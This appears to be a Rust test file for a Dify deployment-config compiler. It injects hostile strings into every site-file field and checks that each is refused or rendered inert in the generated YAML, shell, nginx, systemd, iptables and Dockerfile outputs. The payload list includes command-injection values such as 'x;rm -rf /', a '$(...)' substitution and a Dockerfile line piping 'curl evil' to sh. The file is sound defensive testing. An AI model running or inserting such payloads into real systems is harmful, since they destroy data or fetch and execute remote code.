//! Hostile strings in every free-text field of the input language. Each
//! (field, payload) pair is either refused by `check` (an error with a code
//! and a place in the site file) or rendered inert: every output has the
//! structure it has with a benign value in the same field, and the payload
//! lands inside one literal (a YAML/JSON scalar, a single-quoted shell word,
//! a quoted env value, one nginx/iptables/systemd token, a comment), so it
//! can add no YAML key, iptables rule, nginx directive, Dockerfile
//! instruction, systemd directive or shell command.
//!
//! Compilation runs in memory (`load_from` over a map) on a fleet of one
//! site, so that the many combinations stay fast; a sample goes through the
//! binary's `check` and `build` too.

use std::collections::BTreeMap;
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

use crate::support::{Compiled, compile_mem, dify_cfg, fleet_files};
use dify_cfg::SiteTree;
use toml::{Table, Value};

// ---------------------------------------------------------------------------
// Payloads and fields

/// Strings that mean something to YAML, JSON, sh, compose, systemd, nginx,
/// iptables-restore, Dockerfiles, minijinja or a terminal.
fn payloads() -> Vec<(&'static str, String)> {
    let mut p: Vec<(&'static str, String)> = vec![
        ("newline-key", "a\nb: c".into()),
        ("crlf-rule", "x\r\n-A INPUT -j ACCEPT".into()),
        ("document", "x\n---\ny: z".into()),
        ("dashes", "---".into()),
        ("quotes", "it's \"quoted\"".into()),
        ("single-quote-sh", "x'; touch /tmp/pwned; '".into()),
        ("interpolation", "${DIFY_DB_PASSWORD}".into()),
        ("dollar-var", "$HOME$$".into()),
        ("command", "$(touch /tmp/pwned)`id`".into()),
        ("jinja-expr", "{{ site.name }}".into()),
        ("jinja-stmt", "{% if true %}x{% endif %}{# c #}".into()),
        ("hash", "x # comment".into()),
        ("colon", "key: value".into()),
        ("flow", "[a, {b: c}] &x *x !!str".into()),
        ("backslashes", "back\\slash\\".into()),
        ("nul", "nul\0byte".into()),
        ("rlo", "\u{202E}evil\u{202C}".into()),
        ("isolate", "a\u{2066}b\u{2069}".into()),
        ("rlm", "a\u{200F}b".into()),
        ("line-separator", "a\u{2028}b\u{85}c".into()),
        ("nginx", "x; } server { listen 1; } #".into()),
        ("dockerfile", "x\nRUN curl evil | sh".into()),
        ("systemd", "x\nExecStartPre=/bin/evil".into()),
        ("specifier", "%h%n%%".into()),
        ("semicolon", "x;rm -rf /".into()),
        ("space", " a b ".into()),
        ("tab", "a\tb".into()),
        ("unicode", "Zürich 診療所 🏥".into()),
    ];
    p.push(("long", "A".repeat(100_000)));
    p
}

/// Set `path` (dotted, no dots in keys) in `t` to `v`, creating tables.
fn set(t: &mut Table, path: &str, v: Value) {
    let mut parts: Vec<&str> = path.split('.').collect();
    let last = parts.pop().unwrap();
    let mut cur = t;
    for part in parts {
        cur = cur
            .entry(part.to_string())
            .or_insert_with(|| Value::Table(Table::new()))
            .as_table_mut()
            .unwrap_or_else(|| panic!("`{part}` of `{path}` is not a table"));
    }
    cur.insert(last.to_string(), v);
}

/// `[dify] allow-untested-images = true`: a sandbox tag outside the
/// release's compatibility lock is a warning, and the tag reaches the
/// outputs.
fn untested(t: &mut Table) {
    set(t, "dify.allow-untested-images", Value::Boolean(true));
}

fn s(v: &str) -> Value {
    Value::String(v.to_string())
}

fn table(pairs: &[(&str, Value)]) -> Value {
    Value::Table(
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.clone()))
            .collect(),
    )
}

/// Where a field is written into the site file.
type Place = fn(&mut Table, &str);

struct Field {
    name: &'static str,
    /// `clinic-01` (compose) or `hq` (helm).
    site: &'static str,
    /// Valid values, whose renderings are the references (a payload must
    /// render like one of them). The first is the prefix of the "after the
    /// value" payloads.
    benign: &'static [&'static str],
    place: Place,
}

macro_rules! field {
    ($name:expr, $site:expr, [$($benign:expr),+], |$t:ident, $v:ident| $body:expr) => {
        Field {
            name: $name,
            site: $site,
            benign: &[$($benign),+],
            place: |$t: &mut Table, $v: &str| $body,
        }
    };
    ($name:expr, $site:expr, $benign:expr, |$t:ident, $v:ident| $body:expr) => {
        field!($name, $site, [$benign], |$t, $v| $body)
    };
    // The value goes, as a string, at one dotted key.
    ($name:expr, $site:expr, $benign:tt, at $key:expr) => {
        field!($name, $site, $benign, |t, v| set(t, $key, s(v)))
    };
}

fn fields() -> Vec<Field> {
    let c = "clinic-01";
    let h = "hq";
    vec![
        // Free text.
        field!("description", c, "Benign clinic text", at "description"),
        field!("description (helm)", h, "Benign office text", at "description"),
        field!("label value", c, "benign-label-value", at "labels.clinic"),
        field!("label value (helm)", h, "benign-label-value", at "labels.site"),
        field!("label key", c, "benign-key", |t, v| {
            set(t, "labels", table(&[(v, s("x"))]))
        }),
        // A value with a quote, a backslash at the end or a tab cannot be
        // single-quoted in dify.env: the planner moves it to compose.yaml.
        field!(
            "env value",
            c,
            ["benign@clinics.example.org", "benign'moved"],
            at "env.MAIL_DEFAULT_SEND_FROM"
        ),
        field!(
            "env value (helm)",
            h,
            ["benign@clinics.example.org", "benign'moved"],
            at "env.MAIL_DEFAULT_SEND_FROM"
        ),
        field!("env name", c, "MAIL_DEFAULT_SEND_FROM", |t, v| {
            set(t, "env", table(&[(v, s("x"))]))
        }),
        // Network.
        field!("hostname", c, "benign.clinics.example.org", at "network.hostname"),
        field!(
            "hostname (helm)",
            h,
            "benign.clinics.example.org",
            at "network.hostname"
        ),
        field!("lan", c, "10.20.1.0/24", at "network.lan"),
        field!("address", c, "10.20.1.10", at "network.address"),
        field!("lan6", c, "fd00:20:1::/64", at "network.lan6"),
        field!("admin network", c, "10.0.0.0/24", |t, v| {
            set(t, "network.admin", Value::Array(vec![s(v)]))
        }),
        field!("ssh-from network", c, "10.0.0.0/28", |t, v| {
            set(t, "network.ssh-from", Value::Array(vec![s(v)]))
        }),
        field!("public route", c, "/v1", |t, v| {
            set(t, "network.public-routes", Value::Array(vec![s(v)]))
        }),
        field!("egress name", c, "benign-egress", |t, v| {
            set(
                t,
                "network.egress",
                Value::Array(vec![table(&[
                    ("name", s(v)),
                    ("cidr", s("10.0.0.40/32")),
                    ("ports", Value::Array(vec![Value::Integer(443)])),
                ])]),
            )
        }),
        field!("egress cidr", c, "10.0.0.40/32", |t, v| {
            set(
                t,
                "network.egress",
                Value::Array(vec![table(&[
                    ("name", s("llm-gateway")),
                    ("cidr", s(v)),
                    ("ports", Value::Array(vec![Value::Integer(443)])),
                ])]),
            )
        }),
        field!(
            "tls certificate",
            c,
            "/etc/dify-cfg/tls/benign.crt",
            |t, v| {
                set(
                    t,
                    "network.tls",
                    table(&[("certificate", s(v)), ("key", s("/etc/dify-cfg/tls/a.key"))]),
                )
            }
        ),
        field!("tls key", c, "/etc/dify-cfg/tls/benign.key", |t, v| {
            set(
                t,
                "network.tls",
                table(&[("certificate", s("/etc/dify-cfg/tls/a.crt")), ("key", s(v))]),
            )
        }),
        // Images and the build.
        field!("registry", c, "registry.benign.example.org/dify", at "build.registry"),
        field!(
            "registry (helm)",
            h,
            "registry.benign.example.org/dify",
            at "build.registry"
        ),
        field!(
            "api base repository",
            c,
            "docker.io/library/benignpython",
            |t, v| {
                set(
                    t,
                    "build.api-base",
                    table(&[("repository", s(v)), ("tag", s("3.12-slim-bookworm"))]),
                )
            }
        ),
        field!("api base tag", c, "3.12-slim-benign", |t, v| {
            set(
                t,
                "build.api-base",
                table(&[("repository", s("python")), ("tag", s(v))]),
            )
        }),
        field!(
            "web base digest",
            c,
            "sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
            |t, v| {
                set(
                    t,
                    "build.web-base",
                    table(&[
                        ("repository", s("node")),
                        ("tag", s("22-alpine")),
                        ("digest", s(v)),
                    ]),
                )
            }
        ),
        field!("platform", c, "linux/arm64", |t, v| {
            set(t, "build.platforms", Value::Array(vec![s(v)]))
        }),
        // A tag other than the release's own needs `allow-untested-images`
        // (the compatibility lock), which these fields set.
        field!("image repository", c, "benign/dify-sandbox", |t, v| {
            untested(t);
            set(
                t,
                "images.sandbox",
                table(&[("repository", s(v)), ("tag", s("0.2.12"))]),
            )
        }),
        field!("image tag", c, "0.2.12-benign", |t, v| {
            untested(t);
            set(
                t,
                "images.sandbox",
                table(&[("repository", s("langgenius/dify-sandbox")), ("tag", s(v))]),
            )
        }),
        field!("image tag (helm)", h, "0.2.12-benign", |t, v| {
            untested(t);
            set(
                t,
                "images.sandbox",
                table(&[("repository", s("langgenius/dify-sandbox")), ("tag", s(v))]),
            )
        }),
        field!("dify version", c, "1.16.0", at "dify.version"),
        // Sizes and units.
        field!("device memory", c, "4GiB", at "device.memory"),
        field!("service memory", c, "640MiB", at "services.api.memory"),
        field!("reserve", c, "15%", at "device.reserve"),
        field!("headroom", c, "10%", at "device.headroom"),
        // External services.
        field!("database host", c, "db.benign.example.org", |t, v| {
            set(
                t,
                "database.external",
                table(&[
                    ("host", s(v)),
                    ("port", Value::Integer(5432)),
                    ("database", s("dify")),
                ]),
            )
        }),
        field!("database name", c, "benign_db", |t, v| {
            set(
                t,
                "database.external",
                table(&[
                    ("host", s("db.clinics.example.org")),
                    ("port", Value::Integer(5432)),
                    ("database", s(v)),
                ]),
            )
        }),
        field!(
            "database host (helm)",
            h,
            "db.benign.example.org",
            at "database.external.host"
        ),
        field!(
            "redis host (helm)",
            h,
            "redis.benign.example.org",
            at "redis.external.host"
        ),
        // Secret references.
        field!("secret env reference", c, "BENIGN_DB_PASSWORD", |t, v| {
            set(t, "secrets.DB_PASSWORD", table(&[("env", s(v))]))
        }),
        field!(
            "secret file reference",
            c,
            "/run/secrets/benign_secret_key",
            |t, v| { set(t, "secrets.SECRET_KEY", table(&[("file", s(v))])) }
        ),
        field!("secret remote key", h, "benign/database", |t, v| {
            set(
                t,
                "secrets.DB_PASSWORD",
                table(&[("remote", s(v)), ("property", s("password"))]),
            )
        }),
        field!("secret remote property", h, "benign_property", |t, v| {
            set(
                t,
                "secrets.DB_PASSWORD",
                table(&[("remote", s("dify/database")), ("property", s(v))]),
            )
        }),
        // Helm.
        field!("helm namespace", h, "benign-ns", at "helm.namespace"),
        field!("helm secret store", h, "benign-store", at "helm.secret-store"),
        field!("helm secret store kind", h, "SecretStore", at "helm.secret-store-kind"),
        field!("helm ingress class", h, "benign-class", at "helm.ingress-class"),
        // GitOps.
        field!(
            "gitops repository",
            c,
            "https://git.benign.example.org/fleet.git",
            at "gitops.repository"
        ),
        field!(
            "gitops repository (helm)",
            h,
            "ssh://git@git.benign.example.org/fleet.git",
            at "gitops.repository"
        ),
        field!("branch prefix", c, "benign/", at "gitops.branch-prefix"),
        field!("pull interval", c, "7min", at "gitops.pull-interval"),
        field!("confirm timeout", c, "130s", at "gitops.confirm-timeout"),
        field!("argocd namespace", h, "benign-argocd", at "gitops.argocd-namespace"),
        field!("argocd project", h, "benign-project", at "gitops.argocd-project"),
        field!(
            "cluster",
            h,
            "https://k8s.benign.example.org:6443",
            at "gitops.cluster"
        ),
        // Names.
        field!("profile name", c, "multi-branch", at "profile"),
    ]
}

// ---------------------------------------------------------------------------
// Compiling one variant

/// The fleet with only `site`, its file changed by `place(value)`.
fn variant(site: &str, place: Place, value: &str) -> (BTreeMap<String, Vec<u8>>, String) {
    let mut files = fleet_files();
    let path = format!("sites/{site}.toml");
    files.retain(|p, _| !p.starts_with("sites/") || *p == path);
    let text = String::from_utf8(files[&path].clone()).unwrap();
    let mut t: Table = toml::from_str(&text).unwrap();
    place(&mut t, value);
    let text = toml::to_string(&t).unwrap();
    files.insert(path.clone(), text.into_bytes());
    (files, path)
}

/// Output path to bytes for every tree; content hashes in `_images` names
/// are blanked so that a changed Dockerfile keeps its slot.
fn flatten(trees: &[SiteTree]) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    for t in trees {
        for (p, b) in &t.files {
            out.insert(blank_hex(&format!("{}/{p}", t.name)), b.clone());
        }
    }
    out
}

/// Runs of 12 or more hex digits (sha256 digests, content-addressed image
/// tags) become `<hex>`: they change with any byte of a file.
fn blank_hex(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut run = String::new();
    let flush = |run: &mut String, out: &mut String| {
        if run.len() >= 12 {
            out.push_str("<hex>");
        } else {
            out.push_str(run);
        }
        run.clear();
    };
    for c in s.chars() {
        if c.is_ascii_hexdigit() && !c.is_ascii_uppercase() {
            run.push(c);
        } else {
            flush(&mut run, &mut out);
            out.push(c);
        }
    }
    flush(&mut run, &mut out);
    out
}

// ---------------------------------------------------------------------------
// Structure checks

/// A parsed YAML or JSON document, keys as strings.
#[derive(Debug, Clone, PartialEq)]
enum Tree {
    Map(Vec<(String, Tree)>),
    Seq(Vec<Tree>),
    Str(String),
    /// Numbers, booleans, null, tags: compared as their text.
    Other(String),
}

fn from_json(v: &serde_json::Value) -> Tree {
    match v {
        serde_json::Value::Object(m) => {
            Tree::Map(m.iter().map(|(k, v)| (k.clone(), from_json(v))).collect())
        }
        serde_json::Value::Array(a) => Tree::Seq(a.iter().map(from_json).collect()),
        serde_json::Value::String(s) => Tree::Str(s.clone()),
        other => Tree::Other(other.to_string()),
    }
}

fn yaml_key(v: &serde_yaml_ng::Value) -> String {
    match v {
        serde_yaml_ng::Value::String(s) => s.clone(),
        other => format!("{other:?}"),
    }
}

fn from_yaml(v: &serde_yaml_ng::Value) -> Tree {
    use serde_yaml_ng::Value as Y;
    match v {
        Y::Mapping(m) => Tree::Map(m.iter().map(|(k, v)| (yaml_key(k), from_yaml(v))).collect()),
        Y::Sequence(a) => Tree::Seq(a.iter().map(from_yaml).collect()),
        Y::String(s) => Tree::Str(s.clone()),
        Y::Tagged(t) => Tree::Other(format!("{t:?}")),
        other => Tree::Other(format!("{other:?}")),
    }
}

/// What a scalar means to its reader: compose reads `$$` as `$` and
/// `${...}`/`$NAME` as an interpolation (marked with U+E000 here).
fn compose_meaning(s: &str) -> String {
    let mut out = String::new();
    let chars: Vec<char> = s.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '$' && chars.get(i + 1) == Some(&'$') {
            out.push('$');
            i += 2;
        } else if c == '$' && chars.get(i + 1) == Some(&'{') {
            out.push('\u{E000}');
            while i < chars.len() && chars[i] != '}' {
                out.push(chars[i]);
                i += 1;
            }
            i += 1;
        } else if c == '$'
            && chars
                .get(i + 1)
                .is_some_and(|n| n.is_ascii_alphabetic() || *n == '_')
        {
            out.push('\u{E000}');
            i += 1;
            while i < chars.len() && (chars[i].is_ascii_alphanumeric() || chars[i] == '_') {
                out.push(chars[i]);
                i += 1;
            }
        } else {
            out.push(c);
            i += 1;
        }
    }
    out
}

struct Ctx<'a> {
    benign: &'a str,
    hostile: &'a str,
    file: &'a str,
    errors: Vec<String>,
}

impl Ctx<'_> {
    /// The payload went into this literal exactly where the benign value
    /// was (content hashes aside).
    fn literal(&mut self, what: &str, b: &str, p: &str) {
        if b == p {
            return;
        }
        let want = blank_hex(&b.replace(self.benign, self.hostile));
        if blank_hex(p) != want {
            self.errors.push(format!(
                "{}: {what}: `{}` is not the reference `{}` with the value in place",
                self.file,
                short(p),
                short(b)
            ));
        }
    }

    fn fail(&mut self, msg: String) {
        self.errors.push(format!("{}: {msg}", self.file));
    }

    fn tree(&mut self, at: &str, b: &Tree, p: &Tree, compose: bool) {
        match (b, p) {
            (Tree::Map(bm), Tree::Map(pm)) => {
                let (benign, hostile) = (self.benign.to_string(), self.hostile.to_string());
                let key = |k: &str| blank_hex(&k.replace(&benign, &hostile));
                let bk: Vec<String> = bm.iter().map(|(k, _)| key(k)).collect();
                let pk: Vec<String> = pm.iter().map(|(k, _)| blank_hex(k)).collect();
                let (mut bs, mut ps) = (bk.clone(), pk.clone());
                bs.sort();
                ps.sort();
                if bs != ps {
                    self.fail(format!(
                        "{at}: keys {} instead of {}",
                        short(&format!("{ps:?}")),
                        short(&format!("{bs:?}"))
                    ));
                    return;
                }
                for (k, bv) in bm {
                    let want = key(k);
                    let (_, pv) = pm.iter().find(|(pk, _)| blank_hex(pk) == want).unwrap();
                    self.tree(&format!("{at}.{k}"), bv, pv, compose);
                }
            }
            (Tree::Seq(bs), Tree::Seq(ps)) => {
                if bs.len() != ps.len() {
                    self.fail(format!("{at}: {} items instead of {}", ps.len(), bs.len()));
                    return;
                }
                for (i, (bv, pv)) in bs.iter().zip(ps).enumerate() {
                    self.tree(&format!("{at}[{i}]"), bv, pv, compose);
                }
            }
            (Tree::Str(bs), Tree::Str(ps)) => {
                if compose {
                    let (bm, pm) = (compose_meaning(bs), compose_meaning(ps));
                    self.literal(&format!("{at} (as compose reads it)"), &bm, &pm);
                } else {
                    self.literal(at, bs, ps);
                }
            }
            (b, p) if b == p => {}
            (b, p) => self.fail(format!(
                "{at}: {} instead of {}",
                short(&format!("{p:?}")),
                short(&format!("{b:?}"))
            )),
        }
    }
}

fn short(s: &str) -> String {
    let s = s.escape_debug().to_string();
    if s.chars().count() > 160 {
        format!("{}…", s.chars().take(160).collect::<String>())
    } else {
        s
    }
}

/// A shell word: its text as sh reads it, and whether it is inert (only
/// single-quoted parts, `\'`, and characters no shell treats specially,
/// after an optional `NAME=`).
fn sh_words(line: &str) -> Result<Vec<(String, bool)>, String> {
    let mut words = Vec::new();
    let chars: Vec<char> = line.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == ' ' || c == '\t' {
            i += 1;
            continue;
        }
        if c == '#' {
            break;
        }
        if ";&|()<>".contains(c) {
            words.push((c.to_string(), false));
            i += 1;
            continue;
        }
        let mut text = String::new();
        let mut inert = true;
        let mut at_start = true;
        while i < chars.len() {
            let c = chars[i];
            match c {
                ' ' | '\t' | ';' | '&' | '|' | '(' | ')' | '<' | '>' => break,
                '\'' => {
                    let end = chars[i + 1..]
                        .iter()
                        .position(|c| *c == '\'')
                        .ok_or("unterminated single quote")?;
                    text.extend(&chars[i + 1..i + 1 + end]);
                    i += end + 2;
                }
                '\\' => {
                    let next = *chars.get(i + 1).ok_or("trailing backslash")?;
                    if next != '\'' {
                        inert = false;
                    }
                    text.push(next);
                    i += 2;
                }
                '"' => {
                    inert = false;
                    let end = chars[i + 1..]
                        .iter()
                        .position(|c| *c == '"')
                        .ok_or("unterminated double quote")?;
                    text.extend(&chars[i + 1..i + 1 + end]);
                    i += end + 2;
                }
                '=' if at_start => {
                    // NAME= before the value
                    let name_ok = !text.is_empty()
                        && text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
                    if !name_ok {
                        inert = inert && "=".contains(c);
                    }
                    text.push(c);
                    i += 1;
                }
                c => {
                    if !(c.is_ascii_alphanumeric() || "._/:@%+,=-".contains(c)) {
                        inert = false;
                    }
                    text.push(c);
                    i += 1;
                }
            }
            if c != '=' && !(c.is_ascii_alphanumeric() || c == '_') {
                at_start = false;
            }
        }
        words.push((text, inert));
    }
    Ok(words)
}

fn is_comment(line: &str) -> bool {
    let t = line.trim_start();
    t.is_empty() || t.starts_with('#')
}

/// Tokens of a config line for tools that split on blanks and honour
/// double quotes with backslash escapes (iptables-restore, systemd).
fn quoted_tokens(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_q = false;
    let mut has = false;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => {
                in_q = !in_q;
                has = true;
            }
            '\\' if in_q => {
                if let Some(n) = chars.next() {
                    cur.push(n);
                }
            }
            ' ' | '\t' if !in_q => {
                if has || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                    has = false;
                }
            }
            c => cur.push(c),
        }
    }
    if has || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// nginx tokens: words, quoted strings, `;`, `{`, `}`; comments dropped.
fn nginx_tokens(text: &str) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    let chars: Vec<char> = text.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c.is_whitespace() {
            i += 1;
        } else if c == '#' {
            while i < chars.len() && chars[i] != '\n' {
                i += 1;
            }
        } else if ";{}".contains(c) {
            out.push((c.to_string(), true));
            i += 1;
        } else if c == '"' || c == '\'' {
            let mut s = String::new();
            i += 1;
            while i < chars.len() && chars[i] != c {
                if chars[i] == '\\' && i + 1 < chars.len() {
                    i += 1;
                }
                s.push(chars[i]);
                i += 1;
            }
            i += 1;
            out.push((s, false));
        } else {
            let mut s = String::new();
            while i < chars.len() && !chars[i].is_whitespace() && !";{}".contains(chars[i]) {
                if chars[i] == '\\' && i + 1 < chars.len() {
                    i += 1;
                }
                s.push(chars[i]);
                i += 1;
            }
            out.push((s, false));
        }
    }
    out
}

const DOCKERFILE_INSTRUCTIONS: &[&str] = &[
    "ADD",
    "ARG",
    "CMD",
    "COPY",
    "ENTRYPOINT",
    "ENV",
    "EXPOSE",
    "FROM",
    "HEALTHCHECK",
    "LABEL",
    "MAINTAINER",
    "ONBUILD",
    "RUN",
    "SHELL",
    "STOPSIGNAL",
    "USER",
    "VOLUME",
    "WORKDIR",
];

/// The instructions of a Dockerfile (keyword and the joined line), as
/// BuildKit reads them: comment lines dropped, `\` continues a line.
fn dockerfile_instructions(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut cur: Option<String> = None;
    for line in text.lines() {
        if is_comment(line) {
            continue;
        }
        let (body, cont) = match line.trim_end().strip_suffix('\\') {
            Some(b) => (b.to_string(), true),
            None => (line.to_string(), false),
        };
        match cur.as_mut() {
            Some(c) => c.push_str(&body),
            None => cur = Some(body),
        }
        if !cont {
            let full = cur.take().unwrap();
            let kw = full
                .split_whitespace()
                .next()
                .unwrap_or("")
                .to_ascii_uppercase();
            out.push((kw, full));
        }
    }
    if let Some(full) = cur {
        let kw = full
            .split_whitespace()
            .next()
            .unwrap_or("")
            .to_ascii_uppercase();
        out.push((kw, full));
    }
    out
}

/// `%` specifiers systemd would expand (after `%%`).
fn specifiers(s: &str) -> usize {
    s.replace("%%", "").matches('%').count()
}

/// Check one output file against its reference.
fn check_file(cx: &mut Ctx<'_>, path: &str, b: &[u8], p: &[u8]) {
    if b == p {
        return;
    }
    let (Ok(bt), Ok(pt)) = (std::str::from_utf8(b), std::str::from_utf8(p)) else {
        cx.fail("not UTF-8".into());
        return;
    };
    let (bl, pl): (Vec<&str>, Vec<&str>) = (bt.split('\n').collect(), pt.split('\n').collect());
    if bl.len() != pl.len() {
        cx.fail(format!("{} lines instead of {}", pl.len(), bl.len()));
        return;
    }
    if pt.contains('\0') || pt.contains('\r') {
        cx.fail("a NUL or CR reached the file".into());
    }
    let name = path.rsplit('/').next().unwrap();
    if name.ends_with(".yaml") || name.ends_with(".json") {
        let parse = |t: &str| -> Result<Tree, String> {
            if name.ends_with(".json") {
                serde_json::from_str::<serde_json::Value>(t)
                    .map(|v| from_json(&v))
                    .map_err(|e| e.to_string())
            } else {
                serde_yaml_ng::from_str::<serde_yaml_ng::Value>(t)
                    .map(|v| from_yaml(&v))
                    .map_err(|e| e.to_string())
            }
        };
        match (parse(bt), parse(pt)) {
            (Ok(btree), Ok(ptree)) => cx.tree("", &btree, &ptree, name == "compose.yaml"),
            (_, Err(e)) => cx.fail(format!("does not parse: {e}")),
            (Err(e), _) => panic!("{path}: the reference does not parse: {e}"),
        }
        // Comments may carry the value; they are still one line each.
        return;
    }
    if name.ends_with("Dockerfile") {
        let (bi, pi) = (dockerfile_instructions(bt), dockerfile_instructions(pt));
        let bk: Vec<&str> = bi.iter().map(|(k, _)| k.as_str()).collect();
        let pk: Vec<&str> = pi.iter().map(|(k, _)| k.as_str()).collect();
        if bk != pk {
            cx.fail(format!("instructions {pk:?} instead of {bk:?}"));
            return;
        }
        for ((_, b), (k, p)) in bi.iter().zip(&pi) {
            if b != p {
                if !DOCKERFILE_INSTRUCTIONS.contains(&k.as_str()) {
                    cx.fail(format!("unknown instruction `{k}`"));
                }
                // BuildKit substitutes `$VAR` in FROM, LABEL, ENV, ARG, ...
                let dollars = |s: &str| s.replace("\\$", "").matches('$').count();
                if dollars(p) != dollars(b) {
                    cx.fail(format!("a `$` substitution appeared in `{}`", short(p)));
                }
                // The same words (a quoted LABEL value is one word).
                let (bw, pw) = (quoted_tokens(b), quoted_tokens(p));
                if bw.len() != pw.len() {
                    cx.fail(format!(
                        "`{}` has {} words instead of {}",
                        short(p),
                        pw.len(),
                        bw.len()
                    ));
                }
                for (bw, pw) in bw.iter().zip(&pw) {
                    cx.literal("Dockerfile word", bw, pw);
                }
            }
        }
        return;
    }
    if name == "default.conf" {
        let (bt_, pt_) = (nginx_tokens(bt), nginx_tokens(pt));
        if bt_.len() != pt_.len() {
            cx.fail(format!(
                "{} nginx tokens instead of {}",
                pt_.len(),
                bt_.len()
            ));
            return;
        }
        for ((bw, bp), (pw, pp)) in bt_.iter().zip(&pt_) {
            if bp != pp || (*bp && bw != pw) {
                cx.fail(format!("nginx punctuation `{pw}` instead of `{bw}`"));
                return;
            }
            if pw.matches('$').count() != bw.matches('$').count() {
                cx.fail(format!("an nginx variable appeared in `{}`", short(pw)));
            }
            cx.literal("nginx token", bw, pw);
        }
        return;
    }
    for (i, (b, p)) in bl.iter().zip(&pl).enumerate() {
        if b == p {
            continue;
        }
        let n = i + 1;
        if is_comment(b) && is_comment(p) {
            continue;
        }
        if is_comment(b) != is_comment(p) {
            cx.fail(format!(
                "line {n} is `{}` where the reference has `{}`",
                short(p),
                short(b)
            ));
            continue;
        }
        if name.ends_with(".sh") {
            match (sh_words(b), sh_words(p)) {
                (Ok(bw), Ok(pw)) if bw.len() == pw.len() => {
                    for ((bt, _), (ptext, pinert)) in bw.iter().zip(&pw) {
                        if bt != ptext {
                            if !pinert {
                                cx.fail(format!(
                                    "line {n}: the shell word `{}` is not a quoted literal",
                                    short(ptext)
                                ));
                            }
                            cx.literal(&format!("line {n}"), bt, ptext);
                        }
                    }
                }
                (Ok(bw), Ok(pw)) => cx.fail(format!(
                    "line {n}: {} shell words instead of {}: `{}`",
                    pw.len(),
                    bw.len(),
                    short(p)
                )),
                (_, Err(e)) => cx.fail(format!("line {n}: `{}`: {e}", short(p))),
                (Err(e), _) => panic!("{path}: reference line {n}: {e}"),
            }
        } else if name.ends_with(".env") {
            let parse = |l: &str| {
                let (k, v) = l.split_once('=')?;
                let v = v.strip_prefix('\'')?.strip_suffix('\'')?;
                (!v.contains('\'')).then(|| (k.to_string(), v.to_string()))
            };
            match (parse(b), parse(p)) {
                (Some((bk, bv)), Some((pk, pv))) if bk == pk => {
                    cx.literal(&format!("line {n}"), &bv, &pv)
                }
                _ => cx.fail(format!(
                    "line {n} `{}` is not the reference's single-quoted setting",
                    short(p)
                )),
            }
        } else if name.ends_with(".service") || name.ends_with(".timer") {
            let (Some((bk, bv)), Some((pk, pv))) = (b.split_once('='), p.split_once('=')) else {
                cx.fail(format!(
                    "line {n}: `{}` is not a `Key=value` line",
                    short(p)
                ));
                continue;
            };
            if bk != pk {
                cx.fail(format!("line {n}: directive `{pk}` instead of `{bk}`"));
            }
            if pv.ends_with('\\') && !bv.ends_with('\\') {
                cx.fail(format!(
                    "line {n}: a trailing backslash continues the directive"
                ));
            }
            if specifiers(pv) != specifiers(bv) {
                cx.fail(format!(
                    "line {n}: a `%` specifier appeared in `{}`",
                    short(pv)
                ));
            }
            if bk != "Description" && quoted_tokens(bv).len() != quoted_tokens(pv).len() {
                cx.fail(format!(
                    "line {n}: `{}` splits into other words than the reference",
                    short(pv)
                ));
            }
            cx.literal(
                &format!("line {n}"),
                &bv.replace("%%", "%"),
                &pv.replace("%%", "%"),
            );
        } else if name == "agent.conf" {
            // Data the agent reads as KEY=value, with values of URL and
            // name characters only.
            let value_char = |c: char| c.is_ascii_alphanumeric() || "._~/+:@-".contains(c);
            match (b.split_once('='), p.split_once('=')) {
                (Some((bk, bv)), Some((pk, pv))) if bk == pk => {
                    if !pv.chars().all(value_char) {
                        cx.fail(format!(
                            "line {n}: `{}` is not a value agent.conf takes",
                            short(pv)
                        ));
                    }
                    cx.literal(&format!("line {n}"), bv, pv);
                }
                _ => cx.fail(format!(
                    "line {n}: `{}` is not the reference's setting",
                    short(p)
                )),
            }
        } else if name.starts_with("rules.v") {
            let (bw, pw) = (quoted_tokens(b), quoted_tokens(p));
            if bw.len() != pw.len() || bw.first() != pw.first() {
                cx.fail(format!(
                    "line {n}: rule `{}` has other words than `{}`",
                    short(p),
                    short(b)
                ));
                continue;
            }
            for (bw, pw) in bw.iter().zip(&pw) {
                cx.literal(&format!("line {n}"), bw, pw);
            }
        } else {
            cx.fail(format!(
                "line {n} changed: `{}` instead of `{}`",
                short(p),
                short(b)
            ));
        }
    }
    if name.starts_with("rules.v") {
        let count = |t: &str| {
            t.lines()
                .filter(|l| l.starts_with("-A") || l.starts_with("-I"))
                .count()
        };
        if count(pt) != count(bt) {
            cx.fail(format!("{} rules instead of {}", count(pt), count(bt)));
        }
    }
}

/// The outcome of one (field, payload): refusal, inert rendering, or the
/// problems found.
enum Outcome {
    Refused,
    Inert,
}

fn check_case(
    field: &Field,
    hostile: &str,
    references: &[BTreeMap<String, Vec<u8>>],
) -> Result<Outcome, Vec<String>> {
    let (files, site_file) = variant(field.site, field.place, hostile);
    match compile_mem(&files) {
        Compiled::Invalid(found) => {
            let here = found.iter().any(|f| {
                f.at.as_deref()
                    .is_some_and(|a| a.starts_with(&format!("{site_file}:")))
            });
            if !here || found.iter().any(|f| f.code.is_empty()) {
                return Err(vec![format!(
                    "refused without an error located in {site_file}: {}",
                    found
                        .iter()
                        .map(ToString::to_string)
                        .collect::<Vec<_>>()
                        .join("; ")
                )]);
            }
            Ok(Outcome::Refused)
        }
        Compiled::RenderFailed(found) => Err(vec![format!(
            "`check` accepts the value but rendering fails: {}",
            found
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("; ")
        )]),
        Compiled::Built(trees) => {
            let got = flatten(&trees);
            let mut first_errors = None;
